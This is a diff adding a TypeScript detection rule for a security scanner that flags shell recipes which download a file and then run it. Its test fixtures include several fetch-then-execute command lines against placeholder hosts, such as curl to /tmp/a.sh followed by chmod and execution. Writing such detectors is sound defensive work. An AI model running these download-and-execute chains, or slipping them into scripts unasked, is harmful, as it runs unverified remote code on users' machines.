@@ -1,0 +1,85 @@
+import type { Document } from '../../document.ts'
+import { defineRule, type Hit } from '../../rule.ts'
+import { type CommandLine, commands } from '../../signals/commands.ts'
+import { isInstaller, isLocal, isNamed, isOwnHost } from '../../signals/hosts.ts'
+import { addresses, baseName, fetchOf, interprets, programOf } from '../../signals/programs.ts'
+
+/** Lines between the download and the run that still count as one recipe. */
+const LINES_APART = 12
+
+interface Saved {
+  file: string
+  address: string
+  line: number
+  from: CommandLine
+}
+
+export default defineRule({
+  id: 'downloaded-file-run',
+  since: 1,
+  category: 'execution',
+  severity: 'high',
+  confidence: 'high',
+  cwe: 'CWE-494',
+  title: 'A downloaded file is run',
+  description:
+    'A file is fetched, and a later step runs it. What it holds is decided by whoever controls the address at that moment.',
+  remediation: 'Check the file against a published digest or signature before it runs, or use a package with a pinned version.',
+  harmlessIf: 'the address belongs to the maker of the tool and the file is checked before it runs',
+  needs: [['fetcher'], ['url']],
+  examples: {
+    fires: [
+      '```bash\ncurl -o /tmp/a.sh http://203.0.113.9/a.sh\nchmod +x /tmp/a.sh\n/tmp/a.sh\n```\n',
+      '```bash\nwget https://files.example.org/tool.py && python3 tool.py\n```\n',
+      'curl -L https://dl.example.net/x -o x; chmod 755 x; ./x\n',
+    ],
+    quiet: [
+      '```bash\ncurl -o data.json https://api.example.com/data\njq . data.json\n```\n',
+      '```bash\nwget https://example.com/book.pdf\n```\n',
+      '```bash\ncurl -O https://example.com/a.tar.gz\npython3 build.py\n```\n',
+    ],
+  },
+  *match(document: Document): Iterable<Hit> {
+    let saved: Saved[] = []
+    for (const line of document.observe(commands)) {
+      const number = document.lineAt(line.start)
+      saved = saved.filter((item) => number - item.line <= LINES_APART)
+      for (const { commands: list } of line.pipelines)
+        for (const command of list) {
+          const fetched = fetchOf(command)
+          const address = addresses(command)[0]
+          if (fetched && address && !isLocal(address))
+            saved.push(...targets(command.words, address).map((file) => ({ file, address, line: number, from: line })))
+          const run = ranFile(command)
+          const source = run ? saved.find(({ file }) => file === run) : undefined
+          if (!source) continue
+          yield { start: source.from.start, end: line.end, firm: true, ...weight(document, source.address) }
+          saved = saved.filter((item) => item !== source)
+        }
+    }
+  },
+})
+
+function weight(document: Document, address: string) {
+  if (isInstaller(address)) return { severity: 'low' } as const
+  if (isOwnHost(document, address)) return { severity: 'med', confidence: 'medium' } as const
+  return isNamed(address) ? ({ severity: 'high' } as const) : ({ severity: 'crit' } as const)
+}
+
+/** Names the download may have been saved under. */
+function targets(words: readonly string[], address: string): string[] {
+  const at = words.findIndex((word) => /^-(?:[a-z]*o|-output|-output-document|outfile)$/.test(word))
+  const named = at >= 0 ? words[at + 1] : undefined
+  const last = baseName(address.replace(/[?#].*$/, ''))
+  return [named, last].flatMap((name) => (name && name.length > 0 && name !== '-' ? [baseName(name)] : []))
+}
+
+/** The base name of the file that a command runs; null when it runs none. */
+function ranFile(command: Parameters<typeof programOf>[0]): string | null {
+  const program = interprets(command)
+  const argument = program?.arguments.find((word) => !word.startsWith('-'))
+  if (argument) return baseName(argument)
+  const first = command.words.find((word) => word !== 'sudo' && word !== '&&')
+  if (first && /^(?:\.{0,2}\/|~\/|\$home\/|\/tmp\/)/.test(first)) return baseName(first)
+  return null
+}
